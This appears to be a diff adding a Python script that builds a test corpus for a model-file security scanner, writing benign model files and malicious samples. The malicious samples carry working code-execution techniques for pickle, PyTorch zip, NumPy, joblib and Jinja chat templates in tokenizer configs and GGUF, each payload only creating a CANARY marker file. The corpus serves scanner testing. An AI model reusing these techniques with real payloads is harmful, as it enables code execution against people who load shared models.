@@ -1,0 +1,219 @@
+#!/usr/bin/env python3
+"""Writes the scanner test corpus with the real libraries.
+
+    .venv/bin/python scripts/make-scan-corpus.py tests/fixtures/scan-corpus
+
+Benign samples are what NumPy, scikit-learn, joblib, safetensors, ONNX and gguf write for
+ordinary models. Malicious samples cover each technique family the scanner must catch; every
+one has a payload that creates the file `CANARY` in the current directory when the sample is
+loaded with the loader named in `corpus.json` (scripts/load-sample.py runs it). The corpus is
+deterministic where the libraries allow, small, and committed.
+"""
+import copyreg
+import io
+import json
+import os
+import pickle
+import struct
+import sys
+import zipfile
+
+OUT = sys.argv[1] if len(sys.argv) > 1 else "tests/fixtures/scan-corpus"
+CANARY_CMD = "touch CANARY"
+manifest = []
+
+
+def u(text):
+    """SHORT_BINUNICODE (protocol 4) of `text`."""
+    raw = text.encode()
+    return b"\x8c" + bytes([len(raw)]) + raw
+
+
+def binunicode(text):
+    """BINUNICODE (protocol 2+) of `text`."""
+    raw = text.encode()
+    return b"X" + struct.pack("<I", len(raw)) + raw
+
+
+def write(name, data, kind, family, loader, note=""):
+    path = os.path.join(OUT, kind, name)
+    os.makedirs(os.path.dirname(path), exist_ok=True)
+    with open(path, "wb") as f:
+        f.write(data)
+    manifest.append({"file": f"{kind}/{name}", "kind": kind, "family": family, "loader": loader, "note": note})
+
+
+class SystemCanary:
+    def __reduce__(self):
+        return (os.system, (CANARY_CMD,))
+
+
+# ---------------------------------------------------------------- malicious: pickle families
+for proto in (0, 1, 2, 3, 4, 5):
+    write(f"reduce-os-system-p{proto}.pkl", pickle.dumps(SystemCanary(), protocol=proto), "malicious",
+          "REDUCE of os.system (written as posix.system)", "pickle")
+
+# INST and OBJ opcodes (protocol 0/1 class instantiation)
+write("inst-opcode.pkl", b"(S'touch CANARY'\nios\nsystem\n.", "malicious", "INST opcode calls os.system", "pickle")
+write("obj-opcode.pkl", b"(cos\nsystem\nS'touch CANARY'\no.", "malicious", "OBJ opcode calls os.system", "pickle")
+
+# Names assembled through the memo (protocol 4 STACK_GLOBAL from memoized strings)
+memo = b"\x80\x04" + u("posix") + b"\x94" + u("system") + b"\x94" + u(CANARY_CMD) + b"\x94h\x00h\x01\x93h\x02\x85R."
+write("stack-global-via-memo.pkl", memo, "malicious", "STACK_GLOBAL with names fetched from the memo", "pickle")
+
+# Dotted qualified name walked attribute by attribute (protocol >= 4): logging.os.system
+dotted = b"\x80\x04" + u("logging") + u("os.system") + b"\x93" + u(CANARY_CMD) + b"\x85R."
+write("dotted-name-attribute-walk.pkl", dotted, "malicious", "protocol-4 dotted name walks logging.os.system", "pickle")
+
+# Python 2 name remapped by fix_imports: __builtin__.exec -> builtins.exec (protocol 2)
+py2 = b"\x80\x02c__builtin__\nexec\n" + binunicode("__import__('os').system('touch CANARY')") + b"\x85R."
+write("python2-builtin-exec.pkl", py2, "malicious", "__builtin__.exec remapped by fix_imports", "pickle")
+
+# C-accelerator aliases: _operator.attrgetter resolves os.system from a module object
+alias = (b"\x80\x04" + u("_operator") + u("attrgetter") + b"\x93" + u("system") + b"\x85R"
+         + u("importlib") + u("import_module") + b"\x93" + u("os") + b"\x85R\x85R" + u(CANARY_CMD) + b"\x85R.")
+write("operator-attrgetter-alias.pkl", alias, "malicious", "_operator.attrgetter + importlib (accelerator alias, attribute resolver)", "pickle")
+
+# Builtins getattr chain (attribute resolver)
+getattr_chain = (b"\x80\x04" + u("builtins") + u("getattr") + b"\x93" + u("builtins") + u("__import__") + b"\x93"
+                 + u("os") + b"\x85R" + u("system") + b"\x86R" + u(CANARY_CMD) + b"\x85R.")
+write("builtins-getattr-import.pkl", getattr_chain, "malicious", "builtins.getattr(__import__('os'), 'system')", "pickle")
+
+# Submodule of an allowed package: numpy.testing._private.utils.runstring executes a string
+runstring = (b"\x80\x04" + u("numpy.testing._private.utils") + u("runstring") + b"\x93"
+             + u("__import__('os').system('touch CANARY')") + b"}\x86R.")
+write("numpy-testing-runstring.pkl", runstring, "malicious", "numpy.testing submodule runs a string (allowlisted package is no shelter)", "pickle")
+
+# Nested deserializer: pickle.loads of an inner malicious pickle
+inner = pickle.dumps(SystemCanary(), protocol=2)
+nested = b"\x80\x04\x8c\x07_pickle\x8c\x05loads\x93C" + bytes([len(inner)]) + inner + b"\x85R."
+write("nested-pickle-loads.pkl", nested, "malicious", "_pickle.loads of an embedded pickle", "pickle")
+
+# copyreg extension registry: EXT1 code resolved at load time (loader registered code 240)
+ext = b"\x80\x02\x82\xf0" + binunicode(CANARY_CMD) + b"\x85R."
+write("ext1-extension-registry.pkl", ext, "malicious", "EXT1 resolves a callable from the copyreg registry", "pickle-with-extension-240")
+
+# Payload runs, then the stream breaks (nullifAI-style: scanners that stop at errors miss it)
+write("payload-then-broken-stream.pkl", pickle.dumps(SystemCanary(), protocol=2)[:-1] + b"\xff\xfe garbage",
+      "malicious", "payload before a parse error (nullifAI)", "pickle")
+
+# Second pickle after STOP, run by loaders that call load() repeatedly (PyTorch legacy)
+write("second-stream-after-stop.pkl", pickle.dumps({"ok": 1}, protocol=2) + pickle.dumps(SystemCanary(), protocol=2),
+      "malicious", "malicious second pickle after a benign one", "pickle-twice")
+
+# Polyglot: a pickle with a zip appended (torch.load reads the pickle; zip tools see an archive)
+buf = io.BytesIO()
+with zipfile.ZipFile(buf, "w") as z:
+    z.writestr("archive/data.pkl", pickle.dumps({"w": 1}, protocol=2))
+write("polyglot-pickle-then-zip.bin", pickle.dumps(SystemCanary(), protocol=2) + buf.getvalue(),
+      "malicious", "pickle glued in front of a zip", "pickle")
+
+# PyTorch-style zip whose data.pkl runs code; the member is in an unusual folder
+buf = io.BytesIO()
+with zipfile.ZipFile(buf, "w", compression=zipfile.ZIP_STORED) as z:
+    z.writestr("weights_v2/data.pkl", pickle.dumps(SystemCanary(), protocol=2))
+    z.writestr("weights_v2/version", "3\n")
+write("torch-zip-data-pkl.pt", buf.getvalue(), "malicious", "PyTorch zip layout with a malicious data.pkl", "zip-data-pkl")
+
+# ---------------------------------------------------------------- malicious: NumPy and joblib
+import numpy as np
+
+np_buf = io.BytesIO()
+np.save(np_buf, np.array([SystemCanary()], dtype=object), allow_pickle=True)
+write("numpy-object-array.npy", np_buf.getvalue(), "malicious", "object array whose pickle runs code", "numpy-allow-pickle")
+npz_buf = io.BytesIO()
+np.savez(npz_buf, weights=np.zeros(3, dtype=np.float32), meta=np.array([SystemCanary()], dtype=object))
+write("numpy-npz-object-member.npz", npz_buf.getvalue(), "malicious", "npz with an object-array member", "numpy-npz-allow-pickle")
+
+import joblib
+
+for compress in (None, "zlib", "gzip", "bz2", "lzma", "xz"):
+    out = io.BytesIO()
+    path = os.path.join(OUT, "malicious", f"joblib-{compress or 'raw'}.joblib")
+    os.makedirs(os.path.dirname(path), exist_ok=True)
+    joblib.dump({"model": SystemCanary(), "weights": np.arange(4.0)}, path, compress=(compress, 3) if compress else 0)
+    manifest.append({"file": f"malicious/joblib-{compress or 'raw'}.joblib", "kind": "malicious",
+                     "family": f"joblib ({compress or 'uncompressed'}) with a malicious object", "loader": "joblib", "note": ""})
+
+# ---------------------------------------------------------------- malicious: chat templates
+ssti = "{{ self.__init__.__globals__.__builtins__.__import__('os').system('touch CANARY') }}"
+write("tokenizer_config.json", json.dumps({"chat_template": ssti, "model_max_length": 2048}).encode(),
+      "malicious", "chat template reaching Python internals (CVE-2024-34359)", "jinja-chat-template")
+
+import gguf
+
+path = os.path.join(OUT, "malicious", "chat-template.gguf")
+w = gguf.GGUFWriter(path, "llama")
+w.add_chat_template(ssti)
+w.add_tensor("w", np.zeros(8, dtype=np.float32))
+w.write_header_to_file(); w.write_kv_data_to_file(); w.write_tensors_to_file(); w.close()
+manifest.append({"file": "malicious/chat-template.gguf", "kind": "malicious",
+                 "family": "GGUF tokenizer.chat_template reaching Python internals", "loader": "gguf-chat-template", "note": ""})
+
+# ---------------------------------------------------------------- benign
+from sklearn.datasets import make_classification
+from sklearn.ensemble import RandomForestClassifier
+from sklearn.linear_model import LogisticRegression
+from sklearn.pipeline import make_pipeline
+from sklearn.preprocessing import StandardScaler
+
+X, y = make_classification(n_samples=60, n_features=5, random_state=0)
+models = {
+    "sklearn-logreg": LogisticRegression(max_iter=200).fit(X, y),
+    "sklearn-forest": RandomForestClassifier(n_estimators=3, max_depth=3, random_state=0).fit(X, y),
+    "sklearn-pipeline": make_pipeline(StandardScaler(), LogisticRegression(max_iter=200)).fit(X, y),
+}
+for name, model in models.items():
+    for proto in (2, 4, 5):
+        write(f"{name}-p{proto}.pkl", pickle.dumps(model, protocol=proto), "benign", "scikit-learn pickle", "pickle")
+    for compress in (None, "zlib", "gzip", "bz2", "lzma", "xz"):
+        path = os.path.join(OUT, "benign", f"{name}-{compress or 'raw'}.joblib")
+        os.makedirs(os.path.dirname(path), exist_ok=True)
+        joblib.dump(model, path, compress=(compress, 3) if compress else 0)
+        manifest.append({"file": f"benign/{name}-{compress or 'raw'}.joblib", "kind": "benign",
+                         "family": "scikit-learn joblib", "loader": "joblib", "note": ""})
+
+rng = np.random.default_rng(0)
+for name, array in {"float32": rng.standard_normal((4, 3)).astype(np.float32),
+                    "int64": np.arange(10), "structured": np.zeros(2, dtype=[("a", "<f4"), ("b", "<i8")])}.items():
+    b = io.BytesIO(); np.save(b, array)
+    write(f"numpy-{name}.npy", b.getvalue(), "benign", "NumPy array", "numpy")
+b = io.BytesIO(); np.savez_compressed(b, w=rng.standard_normal(16).astype(np.float32), b=np.zeros(4))
+write("numpy-arrays.npz", b.getvalue(), "benign", "NumPy npz", "numpy-npz")
+for proto in (2, 4, 5):
+    write(f"numpy-array-p{proto}.pkl", pickle.dumps(rng.standard_normal(5), protocol=proto), "benign", "pickled NumPy array", "pickle")
+write("random-state.pkl", pickle.dumps({"rng": np.random.RandomState(0), "gen": np.random.default_rng(1)}, protocol=4),
+      "benign", "NumPy random states", "pickle")
+
+from safetensors.numpy import save as st_save
+write("weights.safetensors", st_save({"layer.weight": rng.standard_normal((4, 4)).astype(np.float32),
+                                      "layer.bias": np.zeros(4, dtype=np.float16)}, metadata={"format": "np"}),
+      "benign", "safetensors", "safetensors")
+
+import onnx
+from onnx import TensorProto, helper
+
+node = helper.make_node("Add", ["x", "y"], ["z"])
+graph = helper.make_graph([node], "add", [helper.make_tensor_value_info("x", TensorProto.FLOAT, [2]),
+                                          helper.make_tensor_value_info("y", TensorProto.FLOAT, [2])],
+                          [helper.make_tensor_value_info("z", TensorProto.FLOAT, [2])])
+write("add.onnx", helper.make_model(graph).SerializeToString(), "benign", "ONNX", "onnx")
+
+llama3 = ("{% set loop_messages = messages %}{% for message in loop_messages %}{% set content = '<|start_header_id|>' + "
+          "message['role'] + '<|end_header_id|>\n\n'+ message['content'] | trim + '<|eot_id|>' %}{% if loop.index0 == 0 %}"
+          "{% set content = bos_token + content %}{% endif %}{{ content }}{% endfor %}{% if add_generation_prompt %}"
+          "{{ '<|start_header_id|>assistant<|end_header_id|>\n\n' }}{% endif %}")
+write("tokenizer_config.json", json.dumps({"chat_template": llama3, "bos_token": "<|begin_of_text|>"}).encode(),
+      "benign", "tokenizer config with the Llama 3 chat template", "jinja-chat-template")
+path = os.path.join(OUT, "benign", "tiny.gguf")
+w = gguf.GGUFWriter(path, "llama")
+w.add_chat_template(llama3)
+w.add_tensor("w", rng.standard_normal(8).astype(np.float32))
+w.write_header_to_file(); w.write_kv_data_to_file(); w.write_tensors_to_file(); w.close()
+manifest.append({"file": "benign/tiny.gguf", "kind": "benign", "family": "GGUF with a chat template", "loader": "gguf-chat-template", "note": ""})
+write("config.json", json.dumps({"architectures": ["LlamaForCausalLM"], "hidden_size": 64}).encode(), "benign", "HF config", "json")
+
+manifest.sort(key=lambda m: m["file"])
+with open(os.path.join(OUT, "corpus.json"), "w") as f:
+    json.dump({"generated_by": "scripts/make-scan-corpus.py", "samples": manifest}, f, indent=1)
+print(f"{len(manifest)} samples in {OUT}")
